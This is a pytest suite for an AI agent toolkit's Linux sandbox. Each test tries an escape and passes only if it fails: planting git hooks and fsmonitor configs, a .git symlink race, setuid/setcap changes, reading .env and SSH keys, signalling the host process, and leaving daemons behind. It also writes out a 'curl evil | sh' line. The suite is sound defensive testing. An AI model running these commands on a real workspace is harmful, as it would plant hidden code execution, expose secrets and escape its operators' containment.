"""Escapes through the worker's filesystem view, its namespaces and its capabilities.

Each test performs the attack with run_command (or a primitive) and fails if it
works: protected git and shell files, the ``.git`` symlink race, metadata of
files outside the roots, secrets, processes left behind, the toolkit's process.
"""

from __future__ import annotations

import asyncio
import contextlib
import errno
import json
import os
import random
import resource
import shlex
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from tinyagent_fs import FileTools
from tinyagent_fs.errors import ErrorCode, ToolError
from tinyagent_fs.hooks import AutoApprovePolicy
from tinyagent_fs.policy import SandboxPolicy
from tinyagent_fs.providers.linux import LinuxSandboxProvider

from ..sandbox_support import (
    SECRET,
    Sandbox,
    git,
    is_running,
    namespace_pids,
    open_sandbox,
    require_sandbox,
    worker_pids,
)

pytestmark = require_sandbox()

PWNED_HOOK = '#!/bin/sh\ntouch "$(git rev-parse --show-toplevel)/pwned"\n'


@pytest.fixture
async def sandbox(tmp_path: Path) -> AsyncIterator[Sandbox]:
    async for opened in open_sandbox(tmp_path):
        yield opened


def stat_signature(path: Path) -> tuple[object, ...]:
    info = path.stat()
    xattrs = sorted(os.listxattr(path))
    return (info.st_mode, info.st_uid, info.st_gid, info.st_mtime_ns, info.st_size, xattrs)


async def test_git_symlink_swapper_never_puts_an_outside_dir_under_the_root(tmp_path: Path) -> None:
    root, outside = tmp_path / "root", tmp_path / "outside"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    (outside / "hooks").mkdir(parents=True)
    (outside / "hooks" / "marker").write_bytes(SECRET)
    stop = threading.Event()
    swaps = 0

    git_dir, real, link = root / ".git", root / ".git-real", root / ".git-link"

    def put_real_git_back() -> None:
        """The toolkit's quarantine renames a `.git` that is a symlink (or, racing this
        thread, the real folder) aside between commands: start each swap afresh."""
        aside = sorted(root.glob(".git.quarantined*"))
        for path in (git_dir, link, *aside):
            if path.is_symlink():
                path.unlink()
        for path in (real, *aside):
            if path.is_dir() and not git_dir.exists():
                os.rename(path, git_dir)

    def swapper() -> None:
        nonlocal swaps
        while not stop.is_set():
            try:
                os.rename(git_dir, real)
                os.symlink(outside, link)
                os.rename(link, git_dir)
                os.rename(git_dir, link)
                os.unlink(link)
                os.rename(real, git_dir)
                swaps += 1
                # A pause now and then: a tree that never rests refuses every command
                # (tree_changing), and the race is with the worker's start.
                stop.wait(random.uniform(0, 0.004))
            except OSError:
                with contextlib.suppress(OSError):
                    put_real_git_back()

    thread = threading.Thread(target=swapper)
    thread.start()
    refusals = ran = 0
    try:
        while ran < 8 and refusals < 100:
            provider = LinuxSandboxProvider(root, SandboxPolicy())
            try:
                result = await provider.call(
                    "run_command",
                    command="cat .git/hooks/marker .git-real/hooks/marker;"
                    " echo planted > .git/hooks/planted; ls -a / .git .git-real",
                    workdir=str(root),
                    timeout_s=10,
                )
            except ToolError as refused:  # a tree that keeps changing is not walked: fine
                assert refused.details.get("cause") == "tree_changing", refused
                refusals += 1
                continue
            finally:
                await provider.close()
            ran += 1
            assert SECRET.decode().strip() not in result["stdout"], result
            assert not (outside / "hooks" / "planted").exists()
            assert "outside" not in result["stdout"]
    finally:
        stop.set()
        thread.join()
    assert swaps > 12, "the swapper did not run while workers started"
    assert ran == 8, f"{refusals} commands refused, {ran} ran: too few to prove anything"
    assert sorted(p.name for p in (outside / "hooks").iterdir()) == ["marker"]


async def test_every_code_running_git_and_shell_file_is_read_only(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    dot_git = root / ".git"
    protected = {
        dot_git / "config.worktree": "[core]\n",
        dot_git / "commondir": "../..\n",
        dot_git / "info" / "attributes": "* text\n",
        dot_git / "modules" / "sub" / "hooks" / "post-checkout": "#!/bin/sh\n",
        dot_git / "modules" / "sub" / "config": "[core]\n",
        dot_git / "worktrees" / "wt" / "gitdir": "/nowhere\n",
        root / ".gitmodules": "",
        root / ".tinyagentignore": "private/\n",
        root / ".bashrc": "# rc\n",
        root / ".zshenv": "# rc\n",
    }
    for path, text in protected.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    before = {path: path.read_bytes() for path in [*protected, dot_git / "config"]}
    attacks = []
    for path in before:
        quoted = shlex.quote(str(path))
        attacks += [
            f"echo 'curl evil | sh' >> {quoted}",
            f"rm -f {quoted}",
            f"mv {quoted} {quoted}.x",
        ]
    attacks += [
        "echo evil > .git/hooks/pre-commit",
        "echo evil > .git/modules/sub/hooks/pre-commit",
        "mkdir .git/worktrees/evil",
        "rm -rf .git/worktrees .git/info .git/modules/sub/hooks",
        "mv .git .git-old",
    ]
    async for sandbox in open_sandbox(tmp_path):
        result = await sandbox.run("; ".join(attacks))
        assert "Read-only file system" in result["stderr"]
    assert {path: path.read_bytes() for path in before} == before
    assert not (dot_git / "hooks" / "pre-commit").exists()
    assert not (dot_git / "modules" / "sub" / "hooks" / "pre-commit").exists()
    assert sorted(p.name for p in (dot_git / "worktrees").iterdir()) == ["wt"]
    assert not (root / ".git-old").exists()


async def test_git_init_and_a_hook_in_one_command_leave_no_working_hook(sandbox: Sandbox) -> None:
    hook = shlex.quote(PWNED_HOOK)
    result = await sandbox.run(
        f"git init -q . && printf %s {hook} > .git/hooks/pre-commit"
        " && chmod +x .git/hooks/pre-commit && cp .git/hooks/pre-commit .bashrc"
    )
    assert result["exit_code"] == 0, result
    moved = {entry["path"] for entry in result["protected_paths_quarantined"]}
    assert moved == {
        str(sandbox.root / name) for name in (".git/hooks/pre-commit", ".git/config", ".bashrc")
    }
    assert "renamed aside" in result["protected_paths_message"]
    aside = sandbox.root / ".git" / "hooks" / "pre-commit.quarantined"
    assert aside.read_text() == PWNED_HOOK and not os.access(aside, os.X_OK)
    assert not (sandbox.root / ".bashrc").exists()
    committed = git(sandbox.root, "commit", "-q", "--allow-empty", "-m", "person's commit")
    assert committed.returncode == 0, committed.stderr
    assert not (sandbox.root / "pwned").exists()


async def test_git_init_with_a_code_running_config_in_one_command_is_quarantined(
    sandbox: Sandbox,
) -> None:
    result = await sandbox.run(
        "git init -q . && git config core.fsmonitor 'touch fsmonitor-ran; false'"
        " && git config user.name agent"
    )
    assert result["exit_code"] == 0, result
    moved = [entry["path"] for entry in result["protected_paths_quarantined"]]
    assert moved == [str(sandbox.root / ".git" / "config")]
    git(sandbox.root, "status")
    assert not (sandbox.root / "fsmonitor-ran").exists()


async def test_a_git_config_from_git_init_is_quarantined_and_git_still_works(
    sandbox: Sandbox,
) -> None:
    """A config is never parsed to judge it: the one git init writes goes aside too."""
    result = await sandbox.run(
        "git init -q . && git config user.name agent && git remote add origin https://x/y.git"
    )
    assert result["exit_code"] == 0, result
    moved = [entry["path"] for entry in result["protected_paths_quarantined"]]
    assert moved == [str(sandbox.root / ".git" / "config")]
    assert not (sandbox.root / ".git" / "config").exists()
    aside = git(sandbox.root, "config", "--file", ".git/config.quarantined", "user.name")
    assert aside.stdout == "agent\n"
    committed = git(sandbox.root, "commit", "-q", "--allow-empty", "-m", "person's commit")
    assert committed.returncode == 0, committed.stderr


async def test_hook_written_after_a_git_init_of_an_earlier_command_is_refused(
    sandbox: Sandbox,
) -> None:
    first = await sandbox.run("git init -q .")
    assert str(sandbox.root / ".git") in first["protected_paths_changed"]
    second = await sandbox.run(
        f"printf %s {shlex.quote(PWNED_HOOK)} > .git/hooks/pre-commit; echo x >> .git/config"
    )
    assert second["stderr"].count("Read-only file system") == 1, second
    moved = [entry["path"] for entry in second["protected_paths_quarantined"]]
    assert moved == [str(sandbox.root / ".git" / "config")]  # git init's went aside: a new one
    assert not (sandbox.root / ".git" / "hooks" / "pre-commit").exists()
    assert not (sandbox.root / ".git" / "config").exists()


async def test_metadata_outside_the_roots_and_of_system_files_cannot_change(tmp_path: Path) -> None:
    readable = tmp_path / "shared"
    readable.mkdir()
    visible = readable / "tool"
    visible.write_bytes(b"#!/bin/sh\n")
    visible.chmod(0o755)
    async for sandbox in open_sandbox(tmp_path, read_roots=[readable]):
        hidden = sandbox.secret
        system = Path("/usr/bin/env")
        targets = [visible, hidden, system]
        before = {path: stat_signature(path) for path in targets}
        attacks = []
        for path in targets:
            quoted = shlex.quote(str(path))
            attacks += [
                f"chmod 777 {quoted}",
                f"chmod u+s {quoted}",
                f"chown 1:1 {quoted}",
                f"touch -d 2000-01-01 {quoted}",
                f"setcap cap_setuid+ep {quoted}",
                f'{sys.executable} -c \'import os; os.setxattr({str(path)!r}, "user.x", b"1")\'',
            ]
        result = await sandbox.run("; ".join(attacks) + "; echo done")
        assert result["stdout"].endswith("done\n"), result
        assert "Read-only file system" in result["stderr"]
        assert {path: stat_signature(path) for path in targets} == before


async def test_capabilities_are_gone_even_inside_the_root(sandbox: Sandbox) -> None:
    inside = sandbox.root / "inside.txt"
    owner = inside.stat().st_uid
    result = await sandbox.run(
        'chown 12345:12345 inside.txt; mknod devnull c 1 3; mknod "$TMPDIR/devnull" c 1 3'
    )
    assert "chown: changing ownership of 'inside.txt': Operation not permitted" in result["stderr"]
    assert result["stderr"].count("mknod:") == 2, result
    assert inside.stat().st_uid == owner
    assert not (sandbox.root / "devnull").exists()
    caps = sandbox.provider.report["capabilities"]
    assert caps == {"CapInh": 0, "CapPrm": 0, "CapEff": 0, "CapBnd": 0, "CapAmb": 0}


async def test_commands_cannot_see_or_touch_the_toolkit_process(sandbox: Sandbox) -> None:
    me = os.getpid()
    limit = resource.getrlimit(resource.RLIMIT_FSIZE)
    nice = os.getpriority(os.PRIO_PROCESS, me)
    result = await sandbox.run(
        f"kill -STOP {me}; prlimit --pid {me} --fsize=0; renice -n 19 -p {me};"
        f" ls /proc/{me}; echo done"
    )
    assert result["stdout"].endswith("done\n"), result
    assert resource.getrlimit(resource.RLIMIT_FSIZE) == limit
    assert os.getpriority(os.PRIO_PROCESS, me) == nice
    assert is_running(me)
    assert sandbox.provider.report["pid"] == 1


async def test_secrets_are_masked_from_commands(tmp_path: Path) -> None:
    root = tmp_path / "root"
    secret = SECRET.decode().strip()
    for relative in (".env", "config/server.pem", ".ssh/id_rsa", "private/notes.txt"):
        (root / relative).parent.mkdir(parents=True, exist_ok=True)
        (root / relative).write_text(f"SECRET={secret}\n")
    (root / ".tinyagentignore").write_text("private/\n")
    async for sandbox in open_sandbox(tmp_path):
        result = await sandbox.run(
            "cat .env config/server.pem .ssh/id_rsa private/notes.txt; grep -r SECRET . ;"
            " cp .env copy.txt; ln .env hard.txt; tar cf - . | strings | grep SECRET; echo done"
        )
        assert result["stdout"].endswith("done\n")
        assert secret not in result["stdout"] + result["stderr"], result
        masks = sandbox.provider.report["masks"]
        assert sorted(masks["masked"]) == sorted(
            str(sandbox.root / p) for p in (".env", ".ssh", "config/server.pem", "private")
        )
    assert (root / ".env").read_text() == f"SECRET={secret}\n"


async def test_daemons_are_gone_after_each_call_and_after_close(sandbox: Sandbox) -> None:
    result = await sandbox.run("setsid sleep 1000 >/dev/null 2>&1 & disown; sleep 0.2; echo $!")
    assert int(result["stdout"]) > 1
    own = worker_pids(sandbox.provider)
    assert namespace_pids(sandbox.provider) == own
    pending = asyncio.ensure_future(sandbox.run("setsid sleep 1000 & sleep 30", timeout_s=60))
    deadline = time.monotonic() + 10
    while len(namespace_pids(sandbox.provider)) < len(own) + 2 and time.monotonic() < deadline:
        await asyncio.sleep(0.05)
    inside = namespace_pids(sandbox.provider)
    assert len(inside) >= len(own) + 2
    os.kill(sandbox.provider.worker_pid, 9)
    with pytest.raises(ToolError) as caught:
        await asyncio.wait_for(pending, 10)
    assert caught.value.code is ErrorCode.SANDBOX_FAILURE
    deadline = time.monotonic() + 5
    while any(is_running(pid) for pid in inside) and time.monotonic() < deadline:
        await asyncio.sleep(0.05)
    assert not any(is_running(pid) for pid in inside)


async def test_a_writable_root_inside_a_readable_dir_stays_writable(tmp_path: Path) -> None:
    async for sandbox in open_sandbox(tmp_path, read_roots=[tmp_path]):
        result = await sandbox.run(
            f"echo made > made.txt; cat {sandbox.secret}; echo x > {sandbox.outside}/planted"
        )
        assert (sandbox.root / "made.txt").read_text() == "made\n"
        assert SECRET.decode() in result["stdout"]
        assert "Read-only file system" in result["stderr"]
        assert not (sandbox.outside / "planted").exists()


async def test_a_nested_repository_is_protected_like_the_root_one(tmp_path: Path) -> None:
    root = tmp_path / "root"
    vendored = root / "vendor" / "lib"
    vendored.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", str(vendored)], check=True)
    config = (vendored / ".git" / "config").read_bytes()
    async for sandbox in open_sandbox(tmp_path):
        result = await sandbox.run(
            f"printf %s {shlex.quote(PWNED_HOOK)} > vendor/lib/.git/hooks/pre-commit;"
            " git -C vendor/lib config core.fsmonitor 'touch ran'; mv vendor/lib/.git gone"
        )
        assert "hooks/pre-commit: Read-only file system" in result["stderr"], result
        assert "could not write config file" in result["stderr"]
        assert "cannot move" in result["stderr"]
        assert str(vendored / ".git") in sandbox.provider.report["protection"]["pinned"]
    assert not (vendored / ".git" / "hooks" / "pre-commit").exists()
    assert (vendored / ".git" / "config").read_bytes() == config
    assert not (root / "gone").exists()


async def test_the_model_is_told_about_a_quarantined_hook(tmp_path: Path) -> None:
    root = tmp_path / "project"
    root.mkdir()
    fs = FileTools(
        root,
        provider=LinuxSandboxProvider(root, SandboxPolicy()),
        hooks=[AutoApprovePolicy()],
        audit=False,
    )
    try:
        result = await fs.run_command(
            f"git init -q . && printf %s {shlex.quote(PWNED_HOOK)} > .git/hooks/post-checkout"
        )
    finally:
        await fs.close()
    assert result.ok, result.text
    assert result.data["security_violation"] is True
    assert [e["path"] for e in result.data["protected_paths_quarantined"]] == [
        str(root.resolve() / ".git" / name) for name in ("config", "hooks/post-checkout")
    ]
    assert "renamed aside" in result.text and "post-checkout" in result.text


async def test_namespaces_are_refused_inside_and_the_probe_says_so(sandbox: Sandbox) -> None:
    package = Path(__file__).resolve().parent.parent.parent / "tinyagent_fs"
    script = (
        "import sys, types\n"
        "bare = types.ModuleType('tinyagent_fs')\n"
        f"bare.__path__ = [{str(package)!r}]\n"
        "sys.modules['tinyagent_fs'] = bare\n"
        "from tinyagent_fs.providers.sandbox.namespaces import namespace_support\n"
        "print(namespace_support())\n"
    )
    (sandbox.root / "probe.py").write_text(script)
    result = await sandbox.run(f"{sys.executable} -I probe.py; unshare -m -p -f true; echo done")
    assert result["stdout"].startswith("(False, 'mount and PID namespaces are not available"), (
        result
    )
    assert result["stdout"].endswith("done\n")


async def test_other_code_running_git_files_made_in_one_command_are_quarantined(
    sandbox: Sandbox,
) -> None:
    result = await sandbox.run(
        "git init -q . && echo /elsewhere > .git/commondir"
        " && printf '[core]\\n\\tfsmonitor = touch ran\\n' > .git/config.worktree"
        " && printf %s 'echo rc ran' > .zshenv"
    )
    assert result["exit_code"] == 0, result
    moved = sorted(entry["path"] for entry in result["protected_paths_quarantined"])
    root = sandbox.root
    assert moved == sorted(
        str(root / name)
        for name in (".git/commondir", ".git/config", ".git/config.worktree", ".zshenv")
    )
    for name in (".git/commondir", ".git/config.worktree", ".zshenv"):
        assert not (root / name).exists()
        assert (root / (name + ".quarantined")).stat().st_mode & 0o777 == 0o600


async def test_a_gitdir_pointer_made_by_a_command_is_quarantined(sandbox: Sandbox) -> None:
    result = await sandbox.run("echo 'gitdir: /elsewhere' > .git")
    assert [entry["path"] for entry in result["protected_paths_quarantined"]] == [
        str(sandbox.root / ".git")
    ]
    assert not (sandbox.root / ".git").exists()
    assert (sandbox.root / ".git.quarantined").read_text() == "gitdir: /elsewhere\n"


UNPRIVILEGED_VIEW = """\
import json, os, sys, tempfile, types
bare = types.ModuleType("tinyagent_fs")
bare.__path__ = [sys.argv[1]]
sys.modules["tinyagent_fs"] = bare
from tinyagent_fs.providers.sandbox import capabilities, mount_view, namespaces
scratch, root = tempfile.mkdtemp(dir=sys.argv[2]), tempfile.mkdtemp(dir=sys.argv[2])
namespaces.enter_namespaces()
mount_view.build_view([root], [os.path.dirname(sys.argv[1])], scratch)
mount_view.seal_root()
capabilities.drop_all()
try:
    os.chmod("/usr/bin/env", 0o4777)
except OSError as exc:
    caps = capabilities.capability_sets()
    print(json.dumps([exc.errno, os.getpid(), sorted(os.listdir("/")), caps]))
"""


AS_NOBODY = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")


def test_the_view_is_built_for_an_unprivileged_user_too() -> None:
    """Not root: a user namespace is added, the rest is the same."""
    package = Path(__file__).resolve().parent.parent.parent / "tinyagent_fs"
    python = Path("/usr/bin/python3")
    if os.geteuid() != 0 or not python.exists() or not shutil.which("setpriv"):
        pytest.skip("needs root to switch to nobody, /usr/bin/python3 and setpriv")
    if any(p.stat().st_mode & 0o005 != 0o005 for p in [package, *package.parents]):
        pytest.skip("the package is not readable by other users here")
    with tempfile.TemporaryDirectory() as shared:
        os.chmod(shared, 0o777)
        done = subprocess.run(
            [*AS_NOBODY, str(python), "-c", UNPRIVILEGED_VIEW, str(package), shared],
            capture_output=True,
            text=True,
            check=False,
            cwd="/",
        )
    assert done.returncode == 0, done.stderr
    errno_value, pid, entries, caps = json.loads(done.stdout)
    assert (errno_value, pid) == (errno.EROFS, 1)
    assert {"usr", "etc", "dev", "proc", "tmp"} <= set(entries)
    assert "root" not in entries and "home" not in entries
    assert not any(caps.values())
